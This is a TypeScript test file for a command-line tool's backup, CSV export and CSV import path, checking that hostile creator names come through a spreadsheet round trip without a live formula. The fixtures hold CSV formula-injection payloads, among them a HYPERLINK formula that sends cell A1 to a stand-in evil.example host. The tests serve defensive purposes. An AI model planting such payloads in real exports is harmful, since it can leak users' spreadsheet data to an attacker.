/**
 * The backup → export-csv → a spreadsheet's parser → import-csv path of the command line, on saved pages whose
 * creator names carry formula, quote, comma, line-break and right-to-left payloads: our own Instagram sample pages
 * always, and real pages of ../shared (payloads written into copies in a temporary folder) when present.
 */
import { execFile } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it, test, vi } from 'vitest';
import { readBackup } from '../../lib/backup/backup-file';
import type { CreatorRow, ShortlistEntryRow } from '../../lib/db/rows';
import { UsageError } from '../../scripts/cli/args';
import { COMMANDS } from '../../scripts/cli/commands';
import { profilePageHtml } from '../fixtures/instagram/sample-pages';
import { SAMPLE_CREATOR } from '../fixtures/instagram/sample-data';
import { readRfc4180 } from '../support/rfc4180';
import { SHARED_FIXTURES, SKIP_MESSAGE, hasSharedFixtures } from '../support/shared-fixtures';
import { HOSTILE_NAMES } from './shortlist-fixtures';

const LIST = 'Payload =list, "Q1"';
const TSX = join('node_modules', '.bin', 'tsx');

async function cli(...args: string[]): Promise<{ stdout: string; stderr: string }> {
  const [name, ...rest] = args;
  const command = COMMANDS.find((candidate) => candidate.name === name)!;
  let stdout = '';
  let stderr = '';
  const out = vi.spyOn(process.stdout, 'write').mockImplementation((chunk) => ((stdout += String(chunk)), true));
  const err = vi.spyOn(process.stderr, 'write').mockImplementation((chunk) => ((stderr += String(chunk)), true));
  try {
    await command.run(rest);
  } finally {
    out.mockRestore();
    err.mockRestore();
  }
  return { stdout, stderr };
}

function tablesOf(backupText: string): Record<string, Array<Record<string, unknown>>> {
  const backup = readBackup(backupText);
  return Object.fromEntries(backup.database.data.data.map((table) => [table.tableName, table.rows]));
}

/** What a spreadsheet's CSV parser reads, saved again the way such a parser writes it (quotes only where needed). */
function throughSpreadsheet(csv: string): string {
  const records = readRfc4180(csv.replace(/^\ufeff/, ''));
  return Papa.unparse(records.map((record) => record.map((field) => field.text)));
}

/** Every creator once, the same names and numbers, the same list with the same entries; no live formula in the CSV. */
function expectRoundTrip(original: string, csv: string, imported: string): void {
  const records = readRfc4180(csv.replace(/^\ufeff/, ''));
  for (const record of records) {
    for (const field of record) {
      if (field.quoted) expect(/^[\s\u202a-\u202e\u200b-\u200f]*[=+\-@\t\r]/.test(field.text), field.text).toBe(false);
      else expect(field.text === '' || Number.isFinite(Number(field.text)), field.text).toBe(true);
    }
  }
  const before = tablesOf(original);
  const after = tablesOf(imported);
  const creators = (tables: typeof before) =>
    (tables.creators as unknown as CreatorRow[])
      .map((creator) => ({ key: creator.key, name: creator.name, handle: creator.handle, latest: creator.latest }))
      .sort((a, b) => a.key.localeCompare(b.key));
  const entries = (tables: typeof before) =>
    (tables.shortlistEntries as unknown as ShortlistEntryRow[]).map((entry) => entry.creatorKey).sort();
  const listedBefore = new Set(entries(before));
  expect(records.length - 1).toBe(listedBefore.size);
  expect(creators(after)).toEqual(creators(before).filter((creator) => listedBefore.has(creator.key)));
  expect(entries(after)).toEqual(entries(before));
  expect((after.shortlists as Array<{ name: string }>).map((list) => list.name)).toEqual([LIST]);
}

describe('backup → export-csv → spreadsheet → import-csv on our own sample pages', () => {
  let dir: string;
  const pageArgs: string[] = [];
  const followers = HOSTILE_NAMES.map((_, index) => 10_000 + index * 1_111);

  beforeAll(() => {
    dir = mkdtempSync(join(tmpdir(), 'castlist-cli-csv-'));
    HOSTILE_NAMES.forEach((name, index) => {
      const username = `payload.${index}`;
      const file = join(dir, `${username}.html`);
      writeFileSync(file, profilePageHtml({ ...SAMPLE_CREATOR, pk: `77000${index}`, username, fullName: name, followers: followers[index]! }));
      pageArgs.push(file, '--url', `https://www.instagram.com/${username}/`);
    });
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('keeps every creator once, every number as the page showed it, no live formula, and gives back the same list', async () => {
    const { stdout: original } = await cli('backup', ...pageArgs, '--shortlist', LIST);
    const stored = tablesOf(original).creators as unknown as CreatorRow[];
    expect(stored.map((creator) => creator.name).sort()).toEqual([...HOSTILE_NAMES].sort());
    writeFileSync(join(dir, 'backup.json'), original);

    const { stdout: check } = await cli('restore-check', join(dir, 'backup.json'));
    expect(check).toContain('restorable');
    expect(check).toContain(`  creators: ${HOSTILE_NAMES.length}\n`);
    expect(check).toContain(`  shortlist ${JSON.stringify(LIST)}: ${HOSTILE_NAMES.length} creators`);

    const { stdout: csv } = await cli('export-csv', join(dir, 'backup.json'), '--shortlist', LIST, '--bom');
    expect(csv.startsWith('\ufeff"creator_key"')).toBe(true);
    const parsed = Papa.parse<Record<string, string>>(csv.slice(1), { header: true, skipEmptyLines: true }).data;
    expect(parsed.map((row) => Number(row.followers)).sort()).toEqual([...followers].sort());

    writeFileSync(join(dir, 'resaved.csv'), throughSpreadsheet(csv));
    const { stdout: imported, stderr } = await cli('import-csv', join(dir, 'resaved.csv'));
    expect(stderr).toContain(`${HOSTILE_NAMES.length} imported, 0 skipped`);
    expectRoundTrip(original, csv, imported);

    const { stderr: again } = await cli('import-csv', join(dir, 'resaved.csv'), '--into', join(dir, 'backup.json'));
    expect(again).toContain(`entries 0 added, 0 updated, ${HOSTILE_NAMES.length} unchanged`);
  });

  it('exports the CRM presets from the same backup', async () => {
    writeFileSync(join(dir, 'one.json'), (await cli('backup', ...pageArgs.slice(0, 3), '--shortlist', 'One')).stdout);
    const { stdout, stderr } = await cli('export-csv', join(dir, 'one.json'), '--preset', 'upfluence');
    expect(stdout).toBe(`"profile_name","media_url","email"\r\n"'${HOSTILE_NAMES[0]}","https://www.instagram.com/payload.0/",\r\n`.replace('"\'=HYPERLINK("', '"\'=HYPERLINK(""').replace('evil.example/?x="&A1,"click me")', 'evil.example/?x=""&A1,""click me"")'));
    expect(stderr).toBe('castlist: 1 of 1 rows have no email: Upfluence needs profile_name, media_url and email\n');
  });

  it('says exactly why it refuses, and what was called wrongly', async () => {
    writeFileSync(join(dir, 'cut.json'), (await cli('backup', ...pageArgs.slice(0, 3))).stdout.slice(0, 400));
    await expect(cli('restore-check', join(dir, 'cut.json'))).rejects.toThrow(/^refused .*cut\.json: the file is cut short/);
    await expect(cli('export-csv', join(dir, 'cut.json'))).rejects.toThrow(/cut short/);
    await expect(cli('backup', pageArgs[0]!)).rejects.toThrow(UsageError);
    await expect(cli('backup', '--url', 'https://x.com/a')).rejects.toThrow(/follows no FILE/);
    await expect(cli('export-csv', 'x.json', '--preset', 'hubspot')).rejects.toThrow(UsageError);
    writeFileSync(join(dir, 'bad.csv'), 'name,url\nA,\nB,https://example.com/b\n');
    let stderr = '';
    const err = vi.spyOn(process.stderr, 'write').mockImplementation((chunk) => ((stderr += String(chunk)), true));
    await expect(COMMANDS.find((command) => command.name === 'import-csv')!.run([join(dir, 'bad.csv')])).rejects.toThrow(/no row of .*bad\.csv could be imported/);
    err.mockRestore();
    expect(stderr).toContain('row 2: no profile URL or handle in this row\nrow 3: "https://example.com/b" is not a profile on');
  });

  // Two real processes (scripts/cli.ts maps errors to exit codes): slow to start on a busy machine, hence the timeout.
  it('exits 1 with the reason for a refused file and 2 for a wrong call', async () => {
    const run = promisify(execFile);
    writeFileSync(join(dir, 'foreign.json'), JSON.stringify({ hello: 'world' }));
    const [refused, wrong] = await Promise.all([
      run(TSX, ['scripts/cli.ts', 'restore-check', join(dir, 'foreign.json')]).catch((error: { code: number; stderr: string }) => error),
      run(TSX, ['scripts/cli.ts', 'import-csv']).catch((error: { code: number }) => error),
    ]);
    expect(refused).toMatchObject({ code: 1 });
    expect((refused as { stderr: string }).stderr).toContain('no "format": "castlist-backup" header (a JSON object with "hello")');
    expect(wrong).toMatchObject({ code: 2 });
  }, 180_000);
});

/** A real page's creator name, replaced in the page's own data by a payload. */
const REAL_PAGES = [
  {
    file: 'youtube/watch/yta__youtube.html',
    url: 'https://www.youtube.com/watch?v=GJLlxj_dtq8',
    name: 'Dave2D',
    payload: '=HYPERLINK("http://evil.example","x"), \n\u202Eשלום "q"',
    fields: ['text', 'simpleText', 'title', 'author', 'ownerChannelName'],
  },
  {
    file: 'x/dom-fragments/22__general_posts__article.html',
    url: 'https://x.com/RichardDawkins/status/1694469132152975786',
    name: 'Richard Dawkins',
    payload: '@SUM(1,2) "Richard", \u202Bمرحبا',
    fields: [],
  },
  { file: 'tiktok/pender__tiktok-profile-page.html', url: 'https://www.tiktok.com/@huxleythepandapuppy', name: null, payload: null, fields: [] },
];

describe.skipIf(!hasSharedFixtures)('backup → export-csv → spreadsheet → import-csv on real pages', () => {
  let dir: string;
  beforeAll(() => {
    dir = mkdtempSync(join(tmpdir(), 'castlist-real-csv-'));
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('keeps every creator once with the numbers the pages showed, no live formula, and the same list', async () => {
    const args: string[] = [];
    REAL_PAGES.forEach((page, index) => {
      let text = readFileSync(join(SHARED_FIXTURES, page.file), 'utf8');
      if (page.name && page.payload) {
        const html = page.payload.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/"/g, '&quot;');
        for (const field of page.fields) text = text.split(`"${field}":${JSON.stringify(page.name)}`).join(`"${field}":${JSON.stringify(page.payload)}`);
        if (!page.fields.length) text = text.split(page.name).join(html);
      }
      const file = join(dir, `page-${index}.html`);
      writeFileSync(file, text);
      args.push(file, '--url', page.url);
    });
    const { stdout: original } = await cli('backup', ...args, '--shortlist', LIST);
    const names = (tablesOf(original).creators as unknown as CreatorRow[]).map((creator) => creator.name);
    expect(names).toEqual(expect.arrayContaining([REAL_PAGES[0]!.payload, expect.stringContaining('@SUM(1,2) "Richard", \u202Bمرحبا')]));
    writeFileSync(join(dir, 'backup.json'), original);
    const { stdout: csv } = await cli('export-csv', join(dir, 'backup.json'));
    writeFileSync(join(dir, 'resaved.csv'), throughSpreadsheet(csv));
    const { stdout: imported } = await cli('import-csv', join(dir, 'resaved.csv'));
    expectRoundTrip(original, csv, imported);
    const youtube = (tablesOf(imported).creators as unknown as CreatorRow[]).find((creator) => creator.platform === 'youtube')!;
    expect(youtube.latest.followers).toMatchObject({ value: 3_680_000, min: 3_680_000, max: 3_689_999, text: '3.68M subscribers' });
  });
});

test.runIf(!hasSharedFixtures)('the real-page round trip runs when ../shared is present', () => {
  console.warn(SKIP_MESSAGE);
  expect(hasSharedFixtures).toBe(false);
});
